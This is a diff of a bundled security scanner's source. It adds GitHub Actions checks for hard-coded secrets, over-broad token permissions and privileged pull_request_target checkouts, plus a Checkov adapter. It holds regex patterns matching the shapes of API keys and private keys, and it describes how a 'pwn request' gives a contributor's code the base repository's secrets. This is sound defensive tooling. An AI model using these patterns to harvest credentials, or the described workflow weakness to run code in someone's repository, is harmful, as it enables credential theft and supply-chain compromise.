token","pattern":"(?<![A-Za-z0-9_])npm_[A-Za-z0-9]{36}(?![A-Za-z0-9_])"},{"name":"a PyPI upload token","pattern":"(?<![A-Za-z0-9_])pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}"},{"name":"an Anthropic API key","pattern":"(?<![A-Za-z0-9_])sk-ant-[A-Za-z0-9_-]{20,}"},{"name":"an OpenAI API key","pattern":"(?<![A-Za-z0-9_])sk-(?:proj|svcacct|admin)-[A-Za-z0-9_-]{20,}"},{"name":"a private key","pattern":"-----BEGIN (?:[A-Z0-9]{1,20} ){0,4}PRIVATE KEY-----"}],"secret-key-names":["token","password","passwd","secret","api_key","api-key","apikey","private_key","private-key","access_key","access-key","credential"],"not-secret-key-parts":["_url","-url","_uri","-uri","_file","-file","_path","-path","_name","-name","_type","-type","_env","-env","_id","-id","_length","_header","-header","_ttl","_expir"],"min-length":8,"min-entropy":3,"placeholder-words":["example","sample","dummy","changeme","change-me","change_me","placeholder","xxxx","****","your","test","fake","redacted","postgres","mysql","password","secret","localhost","none","null","undefined","todo"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/workflow-literal-secret.ts
+
+
+
+
+
+const TOKEN_SHAPES = dataNamedPatterns(workflow_literal_secret_namespaceObject, 'token-shapes');
+const SECRET_KEY_NAMES = dataStrings(workflow_literal_secret_namespaceObject, 'secret-key-names');
+const NOT_SECRET_KEY_PARTS = dataStrings(workflow_literal_secret_namespaceObject, 'not-secret-key-parts');
+const PLACEHOLDER_WORDS = dataStrings(workflow_literal_secret_namespaceObject, 'placeholder-words');
+const MIN_LENGTH = dataNumber(workflow_literal_secret_namespaceObject, 'min-length');
+const MIN_ENTROPY = dataNumber(workflow_literal_secret_namespaceObject, 'min-entropy');
+const NOT_A_SECRET_VALUE = /^(?:\d+|\$.*|https?:\/\/.*|\.{0,2}\/.*|~.*)$/is;
+function jobPlaces(document) {
+    return jobsOf(document).flatMap((job) => {
+        const where = `job \`${job.id}\``;
+        const container = yaml_nodes_valueOf(job.node, 'container', document);
+        const services = entriesOf(yaml_nodes_valueOf(job.node, 'services', document), document).flatMap((service) => [
+            {
+                node: yaml_nodes_valueOf(service.value, 'env', document),
+                name: `services.${service.key}.env`,
+                shapesOnly: true,
+            },
+            { node: yaml_nodes_valueOf(service.value, 'credentials', document), name: `services.${service.key}.credentials` },
+        ]);
+        return [
+            { node: yaml_nodes_valueOf(job.node, 'env', document), name: 'env' },
+            { node: yaml_nodes_valueOf(job.node, 'with', document), name: 'with' },
+            { node: yaml_nodes_valueOf(container, 'env', document), name: 'container.env' },
+            { node: yaml_nodes_valueOf(container, 'credentials', document), name: 'container.credentials' },
+            ...services,
+        ].map((place) => ({ shapesOnly: false, ...place, where }));
+    });
+}
+function placesOf(path, document) {
+    const steps = stepsOf(path, document).flatMap((step) => {
+        const where = describeStep(step, document);
+        return ['env', 'with'].map((name) => ({
+            node: yaml_nodes_valueOf(step.node, name, document),
+            name,
+            where,
+            shapesOnly: false,
+        }));
+    });
+    if (!isWorkflow(path))
+        return steps;
+    const top = { node: yaml_nodes_valueOf(document.contents, 'env', document), name: 'env', where: 'the workflow' };
+    return [{ ...top, shapesOnly: false }, ...jobPlaces(document), ...steps];
+}
+/** Shannon entropy in bits per character. */
+function entropy(value) {
+    const counts = new Map();
+    const chars = Array.from(value);
+    for (const char of chars)
+        counts.set(char, (counts.get(char) ?? 0) + 1);
+    let bits = 0;
+    for (const count of counts.values())
+        bits -= (count / chars.length) * Math.log2(count / chars.length);
+    return bits;
+}
+function namedLikeSecret(key) {
+    const name = key.toLowerCase();
+    return (SECRET_KEY_NAMES.some((word) => name.includes(word)) &&
+        !NOT_SECRET_KEY_PARTS.some((part) => name.includes(part)));
+}
+function looksRandom(raw) {
+    const value = raw.trim();
+    if (value.length < MIN_LENGTH || /\s/.test(value) || value.includes('${{'))
+        return false;
+    if (NOT_A_SECRET_VALUE.test(value))
+        return false;
+    const lower = value.toLowerCase();
+    return !PLACEHOLDER_WORDS.some((word) => lower.includes(word)) && entropy(value) >= MIN_ENTROPY;
+}
+/** Why a value is a literal secret, never quoting it; undefined when it is not one. */
+function literalSecretReason(key, value, shapesOnly = false) {
+    const shape = TOKEN_SHAPES.find((candidate) => candidate.pattern.test(value));
+    if (shape !== undefined)
+        return `it has the shape of ${shape.name}`;
+    if (shapesOnly || !namedLikeSecret(key) || !looksRandom(value))
+        return undefined;
+    return 'its name says it is a credential and it holds a random-looking literal instead of an expression';
+}
+function literalsIn(place, document) {
+    return entriesOf(place.node, document).flatMap((entry) => {
+        const scalar = stringScalar(entry.value);
+        const reason = scalar && literalSecretReason(entry.key, scalar.value, place.shapesOnly);
+        if (scalar === undefined || reason === undefined)
+            return [];
+        return [{ scalar, label: `\`${place.name}.${entry.key.slice(0, 100)}\` of ${place.where}`, reason }];
+    });
+}
+function workflow_literal_secret_detectionFor(literal, context) {
+    const region = scalarRegion(literal.scalar, context.lines);
+    return {
+        ruleId: context.rule.id,
+        message: `Literal secret: ${literal.label} holds a literal credential (${literal.reason}). Treat it as leaked: ` +
+            'revoke it, store the new one as an encrypted secret and reference it as `${{ secrets.NAME }}`.',
+        location: { path: context.file.path, ...(region === undefined ? {} : { region }) },
+        evidence: `${literal.label}: <redacted>`,
+    };
+}
+function workflow_literal_secret_run(file, rule) {
+    const parsed = parseWorkflowFile(file);
+    if (parsed === undefined)
+        return SKIP;
+    const seen = new Map();
+    for (const document of parsed.documents) {
+        for (const place of placesOf(file.path, document)) {
+            for (const literal of literalsIn(place, document))
+                if (!seen.has(literal.scalar))
+                    seen.set(literal.scalar, literal);
+        }
+    }
+    const detections = [...seen.values()]
+        .sort((a, b) => (a.scalar.range?.[0] ?? 0) - (b.scalar.range?.[0] ?? 0))
+        .map((literal) => workflow_literal_secret_detectionFor(literal, { file, lines: parsed.lines, rule }));
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+const workflowLiteralSecret = defineCheck({ meta: workflow_literal_secret_namespaceObject, appliesTo: isWorkflowOrAction, run: workflow_literal_secret_run });
+
+;// CONCATENATED MODULE: ./data/checks/workflow-permissions.json
+const workflow_permissions_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"workflow-permissions","title":"Workflow token with write-all or default permissions","description":"The workflow grants its GITHUB_TOKEN `write-all`, or sets no `permissions:` at the top level while some job sets none either. Without a `permissions:` block a job receives the repository\'s or organization\'s default permissions, which on many repositories (all those created before February 2023, and any whose setting was changed) is read and write access to contents, packages, pull requests, issues and more. A compromised step, dependency or injected script can then push code, publish packages or rewrite releases.","help":"Declare the least the workflow needs, once at the top, and widen it only on the job that needs more:\\n\\n```yaml\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    permissions:\\n      contents: write   # only this job creates the release\\n```\\n\\n`permissions: {}` removes every permission; naming any scope sets all the others to `none`. Never use `write-all`. Also set the repository\'s and organization\'s default workflow permissions to read-only (Settings → Actions → General → Workflow permissions).\\n\\nReferences:\\n- GitHub, [Controlling permissions for GITHUB_TOKEN](https://docs.github.com/en/actions/using-jobs/assigning-permissions-to-jobs)\\n- GitHub, [Security hardening: using the minimum permissions for the GITHUB_TOKEN](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-the-minimum-permissions-for-the-github_token)\\n- OpenSSF Scorecard, [Token-Permissions](https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions)","helpUri":"https://docs.github.com/en/actions/using-jobs/assigning-permissions-to-jobs","cwe":["CWE-250","CWE-732"],"severity":"medium","security-severity":5.5,"precision":"high","tags":["security","least-privilege","github-actions"],"asvs":["v5.0.0-13.2.2"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/workflow-permissions.ts
+
+
+
+
+const MAX_NAMED_JOBS = 5;
+function workflow_permissions_detection(context, region, message, evidence) {
+    return {
+        ruleId: context.rule.id,
+        message,
+        location: { path: context.file.path, ...(region === undefined ? {} : { region }) },
+        evidence,
+    };
+}
+function writeAll(node, document, context) {
+    const scalar = stringScalar(entryOf(node, 'permissions', document)?.value);
+    if (scalar?.value.trim().toLowerCase() !== 'write-all')
+        return undefined;
+    return scalarRegion(scalar, context.lines) ?? { startLine: 1 };
+}
+function writeAllDetections(document, jobs, context) {
+    const advice = 'Grant only the scopes the workflow needs, e.g. `permissions: { contents: read }`.';
+    const top = writeAll(document.contents, document, context);
+    const found = top
+        ? [
+            workflow_permissions_detection(context, top, `\`permissions: write-all\` gives every job's GITHUB_TOKEN write access to the repository's ` +
+                `contents, packages, releases, issues and more. ${advice}`, 'permissions: write-all'),
+        ]
+        : [];
+    for (const job of jobs) {
+        const region = writeAll(job.node, document, context);
+        if (region === undefined)
+            continue;
+        const message = `Job \`${job.id}\` sets \`permissions: write-all\`, giving its GITHUB_TOKEN write access to the ` +
+            `repository's contents, packages, releases, issues and more. ${advice}`;
+        found.push(workflow_permissions_detection(context, region, message, 'permissions: write-all'));
+    }
+    return found;
+}
+function named(jobs) {
+    const shown = jobs.slice(0, MAX_NAMED_JOBS).map((job) => `\`${job.id}\``);
+    const more = jobs.length - shown.length;
+    return more > 0 ? `${shown.join(', ')} and ${more} more` : shown.join(', ');
+}
+/** Reported once per workflow, on the `on:` key: the top-level block is the one place that fixes every job. */
+function defaultsDetection(document, jobs, context) {
+    if (entryOf(document.contents, 'permissions', document) !== undefined)
+        return [];
+    const unset = jobs.filter((job) => entryOf(job.node, 'permissions', document) === undefined);
+    if (unset.length === 0)
+        return [];
+    const on = entryOf(document.contents, 'on', document)?.keyNode;
+    const region = (on && scalarRegion(on, context.lines)) ?? { startLine: 1 };
+    const which = unset.length === jobs.length
+        ? 'nor does any job'
+        : `nor ${unset.length === 1 ? 'does job' : 'do jobs'} ${named(unset)}`;
+    return [
+        workflow_permissions_detection(context, region, `Default token permissions: this workflow sets no top-level \`permissions:\`, ${which}, so their ` +
+            "GITHUB_TOKEN gets the repository's default permissions, which can be read and write for everything. " +
+            'Add `permissions: { contents: read }` (or `{}`) at the top and widen it only on the jobs that need more.', `no permissions: for ${named(unset)}`),
+    ];
+}
+function workflow_permissions_run(file, rule) {
+    const parsed = parseWorkflowFile(file);
+    if (parsed === undefined)
+        return SKIP;
+    const context = { file, lines: parsed.lines, rule };
+    const detections = parsed.documents.flatMap((document) => {
+        const jobs = jobsOf(document);
+        if (jobs.length === 0)
+            return [];
+        return [...writeAllDetections(document, jobs, context), ...defaultsDetection(document, jobs, context)];
+    });
+    detections.sort((a, b) => (a.location.region?.startLine ?? 0) - (b.location.region?.startLine ?? 0));
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+const workflowPermissions = defineCheck({ meta: workflow_permissions_namespaceObject, appliesTo: isWorkflow, run: workflow_permissions_run });
+
+;// CONCATENATED MODULE: ./data/checks/workflow-pr-target-checkout.json
+const workflow_pr_target_checkout_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"workflow-pr-target-checkout","title":"Privileged workflow checks out pull request code","description":"A workflow triggered by `pull_request_target` or `workflow_run` checks out the head of a pull request (its branch, its commit or its merge ref, or the fork repository itself). These triggers run in the context of the base repository, with its secrets and a token that can write to it, even for pull requests from forks. Any build, test, install or script step that then runs the checked-out code lets whoever opened the pull request run code with those privileges (a \\"pwn request\\").","help":"Do not build or run pull request code in a privileged workflow. Use the `pull_request` trigger for anything that runs the contributor\'s code: it gets no secrets and a read-only token for forks. If a privileged step is needed (commenting, labelling, uploading results), split the work in two: an unprivileged `pull_request` workflow builds and uploads an artifact, and a separate `workflow_run` workflow consumes the artifact as data without checking out or executing the pull request\'s code. If you must check out the head in `pull_request_target`, never run anything from it, set `persist-credentials: false` and give the job `permissions: {}` or read-only permissions.\\n\\nReferences:\\n- GitHub Security Lab, [Keeping your GitHub Actions and workflows secure: preventing pwn requests](https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/)\\n- GitHub, [Events that trigger workflows: pull_request_target](https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target)\\n- OpenSSF Scorecard, [Dangerous-Workflow](https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow)","helpUri":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/","cwe":["CWE-829"],"severity":"critical","security-severity":9.3,"precision":"high","tags":["security","supply-chain","github-actions"],"asvs":[],"$comment":"Triggers whose runs hold the base repository\'s secrets and write token, and what in actions/checkout\'s `ref:` or `repository:` selects pull request code (matched case-insensitively).","privileged-triggers":["pull_request_target","workflow_run"],"head-references":["github\\\\.event\\\\.pull_request\\\\.head\\\\.(?:sha|ref|repo)\\\\b","github\\\\.event\\\\.pull_request\\\\.merge_commit_sha\\\\b","github\\\\.head_ref\\\\b","refs/pull/","github\\\\.event\\\\.workflow_run\\\\.(?:head_sha|head_branch|head_repository)\\\\b","github\\\\.event\\\\.workflow_run\\\\.pull_requests\\\\b"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/workflow-pr-target-checkout.ts
+
+
+
+
+
+const PRIVILEGED = dataStrings(workflow_pr_target_checkout_namespaceObject, 'privileged-triggers');
+const HEAD_REFERENCES = dataPatterns(workflow_pr_target_checkout_namespaceObject, 'head-references', 'i');
+/** actions/checkout steps whose `ref:` or `repository:` selects the pull request's code. */
+function headCheckouts(path, document) {
+    const all = triggersOf(document);
+    const triggers = PRIVILEGED.filter((trigger) => all.has(trigger));
+    if (triggers.length === 0)
+        return [];
+    return stepsOf(path, document).flatMap((step) => {
+        if (!workflow_model_stepUses(step, 'actions/checkout', document))
+            return [];
+        const inputs = yaml_nodes_valueOf(step.node, 'with', document);
+        return ['ref', 'repository'].flatMap((input) => {
+            const scalar = stringScalar(yaml_nodes_valueOf(inputs, input, document));
+            if (scalar === undefined || !HEAD_REFERENCES.some((pattern) => pattern.test(scalar.value)))
+                return [];
+            return [{ input, scalar, step: describeStep(step, document), triggers }];
+        });
+    });
+}
+function workflow_pr_target_checkout_detectionFor(checkout, context) {
+    const region = scalarRegion(checkout.scalar, context.lines);
+    const written = checkout.scalar.value.trim().slice(0, 200);
+    const events = checkout.triggers.map((trigger) => `\`${trigger}\``).join(' and ');
+    return {
+        ruleId: context.rule.id,
+        message: `Pull request code checked out in a privileged workflow: this workflow runs on ${events}, with the ` +
+            `base repository's secrets and write token, and ${checkout.step} checks out the pull request's code ` +
+            `(\`${checkout.input}: ${written}\`). Anything that then builds, installs or runs that code runs the ` +
+            'contributor’s code with those privileges. Build pull requests in a `pull_request` workflow instead.',
+        location: { path: context.file.path, ...(region === undefined ? {} : { region }) },
+        evidence: `${checkout.input}: ${written}`,
+    };
+}
+function workflow_pr_target_checkout_run(file, rule) {
+    const parsed = parseWorkflowFile(file);
+    if (parsed === undefined)
+        return SKIP;
+    const seen = new Map();
+    for (const document of parsed.documents) {
+        for (const checkout of headCheckouts(file.path, document)) {
+            if (!seen.has(checkout.scalar))
+                seen.set(checkout.scalar, checkout);
+        }
+    }
+    const detections = [...seen.values()].map((checkout) => workflow_pr_target_checkout_detectionFor(checkout, { file, lines: parsed.lines, rule }));
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+const workflowPrTargetCheckout = defineCheck({ meta: workflow_pr_target_checkout_namespaceObject, appliesTo: isWorkflow, run: workflow_pr_target_checkout_run });
+
 ;// CONCATENATED MODULE: ./src/scanners/builtin/checks/index.ts
 
+
+
+
+
+
+
+
+
+
 /** Every builtin check; adding one is one file under checks/, one under data/checks/ and one line here. */
-const ALL_CHECKS = [actionsUnpinned];
+const ALL_CHECKS = [
+    actionsUnpinned,
+    workflowInjection,
+    workflowPrTargetCheckout,
+    workflowPermissions,
+    workflowLiteralSecret,
+    containerUnpinned,
+    dockerfileRemoteCode,
+    aiInstructionsIntegrity,
+    aiInstructionsNoSecurityGuidance,
+];
+/** Checks over the whole repository at once (and the network), run beside the per-file pass. */
+const REPOSITORY_CHECKS = [createDependencyHallucinationCheck()];
 
 ;// CONCATENATED MODULE: ./src/scanners/builtin/adapter.ts
 
@@ -40161,10 +44793,12 @@ async function readText(context, path) {
         return { kind: 'note', note: { path, message: `${path} was not checked: it is not valid UTF-8` } };
     }
 }
-function internalError(check, path, thrown) {
+/** `path` is the file a per-file check failed on; a repository check fails on the whole repository. */
+function internalError(checkId, path, thrown) {
+    const where = path === undefined ? '' : ` on ${path}`;
     return new ScannerError('INTERNAL', {
         scanner: SCANNER_ID,
-        message: `builtin check "${check.id}" failed on ${path}: ${describeError(thrown)}. This is a bug in Vouch; please report it.`,
+        message: `builtin check "${checkId}" failed${where}: ${describeError(thrown)}. This is a bug in Vouch; please report it.`,
     }, { cause: thrown });
 }
 /** Runs the checks that apply to one file; a throwing check is returned as an error instead of escaping. */
@@ -40176,12 +44810,12 @@ function runChecks(checks, file, into) {
             into.notes.push(...result.notes);
         }
         catch (thrown) {
-            return internalError(check, file.path, thrown);
+            return internalError(check.id, file.path, thrown);
         }
     }
     return undefined;
 }
-async function scan(checks, tool, context) {
+async function scanFiles(checks, context) {
     const collected = { detections: [], notes: [] };
     for (const path of context.files) {
         const applicable = checks.filter((check) => check.appliesTo(path));
@@ -40194,21 +44828,66 @@ async function scan(checks, tool, context) {
         }
         const error = runChecks(applicable, read.file, collected);
         if (error !== undefined)
-            return { kind: 'error', error };
+            return error;
     }
-    const completed = { tool, rules: checks.map((check) => check.rule), notes: collected.notes };
-    return collected.detections.length === 0
+    return collected;
+}
+function repositoryView(context) {
+    return {
+        files: context.files,
+        readText: async (path) => {
+            const read = await readText(context, path);
+            return read.kind === 'text' ? read.file.text : undefined;
+        },
+        http: context.ports.http,
+        clock: context.ports.clock,
+    };
+}
+/** Runs every repository check at once; the first to throw is returned as an error instead of escaping. */
+async function scanRepository(checks, context) {
+    const view = repositoryView(context);
+    const results = await Promise.all(checks.map(async (check) => {
+        try {
+            return await check.run(view);
+        }
+        catch (thrown) {
+            return internalError(check.id, undefined, thrown);
+        }
+    }));
+    const collected = { detections: [], notes: [] };
+    for (const result of results) {
+        if (result instanceof ScannerError)
+            return result;
+        collected.detections.push(...result.detections);
+        collected.notes.push(...result.notes);
+    }
+    return collected;
+}
+async function adapter_scan({ checks, repositoryChecks }, tool, context) {
+    const [files, repository] = await Promise.all([
+        scanFiles(checks, context),
+        scanRepository(repositoryChecks, context),
+    ]);
+    if (files instanceof ScannerError)
+        return { kind: 'error', error: files };
+    if (repository instanceof ScannerError)
+        return { kind: 'error', error: repository };
+    const rules = [...checks.map((check) => check.rule), ...repositoryChecks.flatMap((check) => check.rules)];
+    const detections = [...files.detections, ...repository.detections];
+    const completed = { tool, rules, notes: [...files.notes, ...repository.notes] };
+    return detections.length === 0
         ? { kind: 'clean', ...completed }
-        : { kind: 'findings', ...completed, detections: collected.detections };
+        : { kind: 'findings', ...completed, detections };
 }
 /** The in-process scanner: Vouch's own checks, run over the files discovery kept. */
-function createBuiltinAdapter(checks = ALL_CHECKS, version) {
+function createBuiltinAdapter(checks = ALL_CHECKS, version, options = {}) {
+    const registered = { checks, repositoryChecks: options.repositoryChecks ?? REPOSITORY_CHECKS };
     const tool = { name: 'vouch-builtin', ...(version === undefined ? {} : { version }) };
     return {
         id: SCANNER_ID,
         async scan(context) {
             try {
-                return await scan(checks, tool, context);
+                return await adapter_scan(registered, tool, context);
             }
             catch (thrown) {
                 // A throwing `appliesTo` or port is as much a bug as a throwing check: fail closed, never escape.
@@ -40235,6 +44914,498 @@ function toRepoPath(root, reported) {
     if (normalized === '..' || normalized.startsWith('../') || external_node_path_.posix.isAbsolute(normalized))
         return undefined;
     return normalized === '.' ? '' : normalized.replace(/^\.\//, '');
+}
+
+;// CONCATENATED MODULE: ./src/scanners/checkov/args.ts
+/** Checkov exits with 1 when a check failed, 0 when none did, 2 when it crashed (FACTS.md). */
+const FAILED_CHECKS_EXIT_CODE = 1;
+/** The name Checkov 3.3.30 gives its JSON report inside `--output-file-path` (runner_registry.py). */
+const REPORT_FILE_NAME = 'results_json.json';
+/**
+ * Frameworks that parse files without calling anything else. Not included: `helm` and `kustomize`, which
+ * run `helm template --dependency-update` / `kustomize build` and so download whatever charts or bases the
+ * scanned repository names, and only when those binaries happen to be installed (valid-YAML templates are
+ * still read by `kubernetes`); `sca_*`, `sast*` and `*_configuration`, which need the platform's API.
+ * `secrets` stays on so Checkov's secret findings can be merged with Gitleaks' at the same lines.
+ */
+const CHECKOV_FRAMEWORKS = [
+    'terraform',
+    'cloudformation',
+    'kubernetes',
+    'dockerfile',
+    'github_actions',
+    'secrets',
+];
+/**
+ * Checkov reads `.checkov.yaml` from the directory named after a separate `-d`/`--directory` argument, from
+ * its working directory and from $HOME (config_utils.get_default_config_paths). A repository's own file
+ * could turn on `soft-fail`, skip checks or load `external-checks-dir` Python from the repository, so the
+ * directory is passed as one `--directory=<root>` argument, the process runs outside the repository and
+ * HOME is an empty directory (checkovEnv). `--quiet` is not passed: it drops skipped checks and parsing
+ * errors from the JSON. `--compact` leaves out code blocks, which for secrets hold the masked line.
+ */
+function checkovArgs(input) {
+    return [
+        `--directory=${input.root}`,
+        '--output',
+        'json',
+        '--output-file-path',
+        input.outputDir,
+        '--framework',
+        CHECKOV_FRAMEWORKS.join(','),
+        '--skip-download',
+        '--skip-results-upload',
+        '--compact',
+    ];
+}
+/** Added to the runner's minimal environment (no BC_API_KEY or CKV_* settings are inherited). */
+function checkovEnv(input) {
+    const limit = String(Math.max(1, Math.floor(input.maxFileBytes)));
+    return {
+        HOME: input.home,
+        CKV_SKIP_PACKAGE_UPDATE_CHECK: 'true',
+        // Discovery's size limit, so Checkov neither reads larger files nor skips smaller ones it kept.
+        CHECKOV_MAX_IAC_FILE_SIZE: limit,
+        CHECKOV_MAX_FILE_SIZE: limit,
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/checkov/classify.ts
+
+/**
+ * Exit code and report together decide; neither is trusted alone.
+ *
+ * | process               | report                                   | outcome             |
+ * |-----------------------|------------------------------------------|---------------------|
+ * | not found             | -                                        | error NOT_INSTALLED |
+ * | could not spawn       | -                                        | error SPAWN_FAILED  |
+ * | timed out             | -                                        | error TIMEOUT       |
+ * | exit 0                | parsed, no failed checks                 | clean               |
+ * | exit 0                | bare summary: no IaC files (3.3.30)      | clean               |
+ * | exit 0                | parsed, failed checks                    | error BAD_OUTPUT    |
+ * | exit 1                | parsed, failed checks                    | findings            |
+ * | exit 1                | parsed, no failed checks                 | error BAD_OUTPUT    |
+ * | exit 0 or 1           | missing                                  | error BAD_OUTPUT    |
+ * | exit 0 or 1           | not JSON or not Checkov's shape          | error BAD_OUTPUT    |
+ * | exit 2                | -                                        | error CRASHED       |
+ * | any other exit/signal | -                                        | error CRASHED       |
+ *
+ * A repository without any file Checkov scans is clean, not skipped: Checkov ran over the whole tree and
+ * had nothing to object to, and a required scanner that is "skipped" would be reported as a problem.
+ */
+function classifyCheckov(result, report) {
+    switch (result.kind) {
+        case 'spawn-error':
+            return result.errorCode === 'ENOENT'
+                ? { kind: 'error', code: 'NOT_INSTALLED', message: 'checkov executable not found; run `vouch setup`' }
+                : { kind: 'error', code: 'SPAWN_FAILED', message: `could not start checkov (${result.message})` };
+        case 'timeout':
+            return {
+                kind: 'error',
+                code: 'TIMEOUT',
+                message: `timed out after ${Math.round(result.durationMs / 1000)}s`,
+            };
+        case 'exited':
+            return classifyExit(result.exitCode, result.signal, report);
+    }
+}
+function classifyExit(exitCode, signal, report) {
+    if (exitCode !== 0 && exitCode !== FAILED_CHECKS_EXIT_CODE) {
+        const how = signal ? `was killed by ${signal}` : `exited with code ${exitCode}`;
+        return { kind: 'error', code: 'CRASHED', message: `checkov ${how}` };
+    }
+    if (report.kind === 'missing')
+        return { kind: 'error', code: 'BAD_OUTPUT', message: 'checkov wrote no report' };
+    if (report.kind === 'invalid')
+        return { kind: 'error', code: 'BAD_OUTPUT', message: `unreadable checkov report: ${report.message}` };
+    const failed = report.report.frameworks.reduce((sum, framework) => sum + framework.failed.length, 0);
+    if (exitCode === 0 && failed === 0)
+        return { kind: 'clean', report: report.report };
+    if (exitCode === FAILED_CHECKS_EXIT_CODE && failed > 0)
+        return { kind: 'findings', report: report.report };
+    return {
+        kind: 'error',
+        code: 'BAD_OUTPUT',
+        message: `checkov exit code ${exitCode} contradicts its report (${failed} failed checks)`,
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/checkov/parse.ts
+class CheckovReportError extends Error {
+}
+function isObject(value) {
+    return value !== null && typeof value === 'object' && !Array.isArray(value);
+}
+/**
+ * Parses `results_json.json`. Checkov writes one framework object when one framework had results, an
+ * array of them when several did, and a bare summary (`{"passed": 0, "failed": 0, …}`) when none did.
+ * `code_block`, `check_result.entity` and `details` are never read: for secrets they hold the line with
+ * the value partly masked.
+ */
+function parseCheckovReport(text) {
+    let data;
+    try {
+        data = JSON.parse(text);
+    }
+    catch (cause) {
+        throw new CheckovReportError(`report is not JSON (${cause.message})`);
+    }
+    if (Array.isArray(data))
+        return { frameworks: data.map((item, index) => parseFramework(item, `[${index}]`)) };
+    if (!isObject(data))
+        throw new CheckovReportError('report is neither a JSON object nor an array');
+    if ('results' in data || 'check_type' in data)
+        return { frameworks: [parseFramework(data, '')] };
+    if (typeof data.failed === 'number' && typeof data.passed === 'number') {
+        if (data.failed !== 0)
+            throw new CheckovReportError(`report is a summary of ${data.failed} failed checks without results`);
+        return { frameworks: [] };
+    }
+    throw new CheckovReportError('report has neither framework results nor a summary');
+}
+function parseFramework(item, where) {
+    if (!isObject(item))
+        throw new CheckovReportError(`report${where} is not an object`);
+    const checkType = item.check_type;
+    if (typeof checkType !== 'string' || checkType === '')
+        throw new CheckovReportError(`report${where}.check_type is missing or not a string`);
+    const results = item.results;
+    if (!isObject(results))
+        throw new CheckovReportError(`report${where}.results is not an object`);
+    const at = `report${where}.results`;
+    return {
+        checkType,
+        failed: recordList(results.failed_checks, `${at}.failed_checks`, true).map((record, index) => parseResult(record, checkType, `${at}.failed_checks[${index}]`)),
+        skipped: recordList(results.skipped_checks, `${at}.skipped_checks`, false).map((record, index) => parseResult(record, checkType, `${at}.skipped_checks[${index}]`)),
+        parsingErrors: recordList(results.parsing_errors, `${at}.parsing_errors`, false).filter((path) => typeof path === 'string' && path !== ''),
+    };
+}
+/** `--quiet` would drop skipped_checks and parsing_errors, so only failed_checks is required. */
+function recordList(value, where, required) {
+    if (value === undefined && !required)
+        return [];
+    if (!Array.isArray(value))
+        throw new CheckovReportError(`${where} is missing or not an array`);
+    return value;
+}
+function parseResult(item, checkType, where) {
+    if (!isObject(item))
+        throw new CheckovReportError(`${where} is not an object`);
+    const checkId = requiredString(item, 'check_id', where);
+    const lineRange = range(item.file_line_range);
+    const resource = optionalString(item.resource);
+    const guideline = optionalString(item.guideline);
+    return {
+        checkType,
+        checkId,
+        checkName: optionalString(item.check_name) ?? checkId,
+        filePath: requiredString(item, 'file_path', where),
+        ...(lineRange === undefined ? {} : { lineRange }),
+        ...(resource === undefined ? {} : { resource }),
+        ...(guideline !== undefined && /^https?:\/\//.test(guideline) ? { guideline } : {}),
+    };
+}
+function requiredString(record, name, where) {
+    const value = record[name];
+    if (typeof value !== 'string' || value === '')
+        throw new CheckovReportError(`${where}.${name} is missing or not a string`);
+    return value;
+}
+function optionalString(value) {
+    return typeof value === 'string' && value.trim() !== '' ? value.trim() : undefined;
+}
+/** A range Vouch cannot use locates the result at the file instead of failing the whole report. */
+function range(value) {
+    if (!Array.isArray(value) || value.length !== 2)
+        return undefined;
+    const [first, last] = value;
+    return isLine(first) && isLine(last) ? [first, last] : undefined;
+}
+function isLine(value) {
+    return typeof value === 'number' && Number.isInteger(value) && value >= 0;
+}
+
+;// CONCATENATED MODULE: ./data/scanners/checkov.json
+const checkov_namespaceObject = /*#__PURE__*/JSON.parse('{"$comment":["Vouch\'s severities for Checkov checks: offline (--skip-download) Checkov reports no severity. Curated for Checkov 3.3.30.","Each family gives the CWE ids, OWASP ASVS 5.0.0 requirement ids, tags and precision shared by its checks, and lists its checks by Vouch severity.","A check listed nowhere takes the first entry of `defaults` whose prefix its id starts with, after CKV2_ is read as CKV_ (graph checks share their provider\'s prefix).","Unlisted checks default to medium: visible in every report, without claiming the severity of the checks reviewed here.","Security-severity scores are Vouch\'s representative score of each severity (src/findings/severity.ts).","ASVS ids were checked against OWASP ASVS 5.0.0 (github.com/OWASP/ASVS, 5.0/docs_en/OWASP_Application_Security_Verification_Standard_5.0.0_en.csv; CC BY-SA 4.0); a family gets none where no requirement covers it directly."],"families":{"secret":{"summary":"A credential is written into the repository. Anyone who can read the repository, its history or its forks can use it: rotate it and load it at run time from a secret store.","cwe":["CWE-798"],"asvs":["v5.0.0-13.3.1"],"tags":["secret"],"precision":"medium","checks":{"high":["CKV_SECRET_1","CKV_SECRET_2","CKV_SECRET_3","CKV_SECRET_4","CKV_SECRET_5","CKV_SECRET_6","CKV_SECRET_7","CKV_SECRET_8","CKV_SECRET_9","CKV_SECRET_10","CKV_SECRET_11","CKV_SECRET_12","CKV_SECRET_13","CKV_SECRET_14","CKV_SECRET_15","CKV_SECRET_16","CKV_SECRET_17","CKV_SECRET_18","CKV_SECRET_19","CKV_SECRET_80","CKV_AWS_41","CKV_AWS_45","CKV_AWS_46","CKV_AZURE_45"]}},"public-access":{"summary":"Anyone on the internet, or any account, can read or change this resource: grant access to named principals 